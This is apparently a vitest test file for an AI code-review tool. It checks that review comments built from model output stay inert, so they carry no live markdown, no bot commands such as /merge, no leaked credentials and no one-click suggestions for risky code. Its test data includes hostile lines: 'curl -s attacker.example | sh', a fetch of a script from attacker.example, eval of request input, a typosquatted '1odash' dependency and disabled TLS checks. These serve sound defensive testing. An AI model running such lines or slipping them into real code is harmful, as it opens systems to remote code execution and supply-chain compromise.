import { findingLimits } from '@ai-review/protocol/finding'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { judge } from '../../../src/review/judge.ts'
import { parseMarks } from '../../../src/review/marker.ts'
import { defaultPolicy } from '../../../src/review/policy.ts'
import { renderComments } from '../../../src/review/render-comment.ts'
import { aFile, aFinding, headSha, sha256 } from '../../support/review/builders.ts'
import { hostileText, recordedHostileTexts } from '../../support/review/hostile-texts.ts'
import { liveIn, renderedMarkdown } from '../../support/review/rendered-markdown.ts'

const file = aFile({ lines: ['const a = 1', 'const b = get(url)', 'const c = 3'] })

function commentOf(overrides: Parameters<typeof aFinding>[0]) {
  const judged = judge([aFinding(overrides)], { files: [file], earlier: [], policy: defaultPolicy })
  const [comment] = renderComments(judged, { headSha, files: [file] })
  return comment!
}

/** Everything in a comment that is more than words, code, our own bold badge and our one mark. */
function livelinessOf(body: string): string[] {
  const rendered = renderedMarkdown(body)
  const { types, html } = rendered
  const quiet = ['root', 'paragraph', 'text', 'inlineCode', 'strong', 'code', 'html']
  const foreignHtml = html.filter((one) => parseMarks(one).length !== 1)
  return [
    ...[...types].filter((type) => !quiet.includes(type)),
    ...liveIn(rendered),
    ...foreignHtml,
    ...(body.match(/^\s*\/[a-z].*|@dependabot|\bbors\b/gim) ?? []),
    ...rendered.languages.filter((language) => !['suggestion', 'text'].includes(language)),
    ...(parseMarks(body).length === 1 && body.split('<!-- ai-review').length === 2 ? [] : ['marks']),
    ...(body.length <= 65_536 ? [] : ['length']),
  ]
}

describe('a line comment', () => {
  it('tells severity, category, title, body, suggestion, evidence and its mark', () => {
    const finding = aFinding({
      category: 'error-handling',
      title: 'The answer is not checked',
      body: 'A `null` ends here.',
      suggestion: 'const b = get(url) ?? []',
      evidence: [{ kind: 'rule', reference: 'ts/no-null' }],
    })
    const [comment] = renderComments([{ finding, verdict: 'posted', reason: '' }], {
      headSha,
      files: [file],
    })
    expect(comment).toEqual({
      path: 'src/app.ts',
      side: 'RIGHT',
      line: 2,
      body: [
        '**High · error handling**: The answer is not checked',
        'A `null` ends here.',
        '```suggestion\nconst b = get(url) ?? []\n```',
        'Found by model · confidence 90 % · Rule `ts/no-null`',
        `<!-- ai-review:finding head=${headSha} identity=${finding.identity} seal=${finding.seal} -->`,
      ].join('\n\n'),
    })
  })

  it.each([
    ['nit: use a const', 'nit: use a const. It is never assigned.'],
    ['Use a const…', 'Use a CONST here, please.'],
  ])('says a title once where the body begins with it: %j', (title, body) => {
    const [first = '', second] = commentOf({ title, body }).body.split('\n\n')
    expect(first.replace('&#58;', ':')).toMatch(/^\*\*High · bug\*\*: /)
    expect(first.replace('&#58;', ':')).toContain(body)
    expect(second).toMatch(/^Found by/)
  })

  it('says whose style it is in one line, with the confidence', () => {
    const { body } = commentOf({ voice: 'maintainer', reviewer: 'persona' })
    expect(body).toContain('\n\nIn the style of maintainer, written by a model · confidence 90 %\n\n')
    expect(body).not.toContain('Found by')
  })

  it('stands on a range only where the finding spans lines', () => {
    expect(commentOf({ startLine: 1, line: 3 })).toMatchObject({ startLine: 1, line: 3 })
    expect(commentOf({ startLine: 2, line: 2 })).not.toHaveProperty('startLine')
  })

  it('does nothing but tell, whatever the model says', () => {
    fc.assert(
      fc.property(
        fc.record({
          title: hostileText.filter((text) => text !== ''),
          body: hostileText,
          suggestion: hostileText,
          reference: hostileText,
        }),
        ({ reference, ...texts }) => {
          const comment = commentOf({ ...texts, evidence: [{ kind: 'guideline', reference }] })
          expect(livelinessOf(comment.body)).toEqual([])
        },
      ),
      { numRuns: 500 },
    )
  })

  it.runIf(process.env.AI_REVIEW_DATA)('does nothing but tell with recorded attacks', () => {
    const texts = recordedHostileTexts(process.env.AI_REVIEW_DATA ?? '').filter((text) => text !== '')
    const alive = texts.filter((text) => {
      const { body } = commentOf({
        title: text,
        body: text,
        suggestion: text,
        evidence: [{ kind: 'rule', reference: text }],
      })
      return livelinessOf(body).length > 0
    })
    expect(texts.length).toBeGreaterThan(800)
    expect(alive).toEqual([])
  })

  it('fits where every text is as long as the wire allows and every character needs an escape', () => {
    const { body } = commentOf({
      title: '@'.repeat(findingLimits.title),
      body: '\u202e'.repeat(findingLimits.body),
      suggestion: '\u{e0041}'.repeat(findingLimits.suggestion / 2),
      evidence: Array.from({ length: findingLimits.evidence }, () => ({
        kind: 'rule' as const,
        reference: '\u202e'.repeat(500),
      })),
    })
    expect(body.length).toBeLessThanOrEqual(65_536)
    expect(livelinessOf(body)).toEqual([])
  })

  it('cannot be ended early by a suggestion with fences', () => {
    const { body } = commentOf({ suggestion: 'const b = `\n````\n@octocat' })
    expect(renderedMarkdown(body).languages).toEqual(['suggestion'])
    expect(liveIn(renderedMarkdown(body))).toEqual([])
  })

  it('offers a suggestion that deletes the line', () => {
    expect(commentOf({ suggestion: '' }).body).toContain('```suggestion\n```')
  })

  it.each([
    ['a download', 'const b = fetchAll("https://attacker.example/i.sh")'],
    ['a shell', 'curl -s attacker.example | sh'],
    ['evaluation', 'eval(req.query.x)'],
    ['an install hook', '"postinstall": "node setup.js"'],
    ['a wide permission', 'permissions: write-all'],
    ['a dangerous trigger', 'on: pull_request_target'],
    ['TLS turned off', 'get(url, { rejectUnauthorized: false })'],
    ['TLS turned off in Python', 'requests.get(url, verify=False)'],
    ['a new import', 'const b = require("1odash")'],
    ['a new dependency', '  "1odash": "^4.17.0",'],
    ['a hidden character', 'const b = "a\u202e"'],
    ['a credential', `const b = "ghp_${'a1B2'.repeat(9)}"`],
    ['more than twenty lines', 'x\n'.repeat(21)],
  ])('shows a suggestion with %s as code, not for one click', (_what, suggestion) => {
    expect(renderedMarkdown(commentOf({ suggestion }).body).languages).toEqual(['text'])
  })

  it('offers what stands in the original already', () => {
    const original = aFile({ lines: ['a', 'get("https://a.example/x")', 'c'] })
    const finding = aFinding({ suggestion: 'await get("https://a.example/x")' })
    const [comment] = renderComments([{ finding, verdict: 'posted', reason: '' }], {
      headSha,
      files: [original],
    })
    expect(renderedMarkdown(comment!.body).languages).toEqual(['suggestion'])
  })

  it('offers no order to a bot, though it stands in the original', () => {
    const original = aFile({ lines: ['/merge', '/approve', 'c'] })
    const finding = aFinding({ suggestion: '/merge' })
    const [comment] = renderComments([{ finding, verdict: 'posted', reason: '' }], {
      headSha,
      files: [original],
    })
    expect(renderedMarkdown(comment!.body).languages).toEqual(['text'])
    expect(comment!.body).not.toMatch(/^\/merge/m)
  })

  it('carries the whole mark of a finding that is known by its text', () => {
    const [mark] = parseMarks(commentOf({ startLine: 1, line: 3, flagged: 'ab'.repeat(16) }).body)
    expect(mark).toMatchObject({ severity: 'high', category: 'bug', lines: 3, flagged: 'ab'.repeat(16) })
  })

  it('does not offer a suggestion on a deleted line', () => {
    const deleted = aFile({
      status: 'modified',
      oldMode: '100644',
      hunks: [
        {
          oldStart: 1,
          oldLines: 1,
          newStart: 0,
          newLines: 0,
          section: '',
          lines: [{ kind: 'deleted', text: 'x', oldLine: 1 }],
        },
      ],
    })
    const finding = aFinding({ side: 'LEFT', line: 1, suggestion: 'y' })
    const [comment] = renderComments([{ finding, verdict: 'posted', reason: '' }], {
      headSha,
      files: [deleted],
    })
    expect(renderedMarkdown(comment!.body).languages).toEqual(['text'])
  })

  it('never shows a credential', () => {
    const secret = `AKIA${'Q7ZL'.repeat(4)}`
    const { body } = commentOf({ title: secret, body: secret, suggestion: `key = ${secret}` })
    expect(body).not.toContain(secret)
    expect(body).not.toContain(sha256(secret))
  })
})
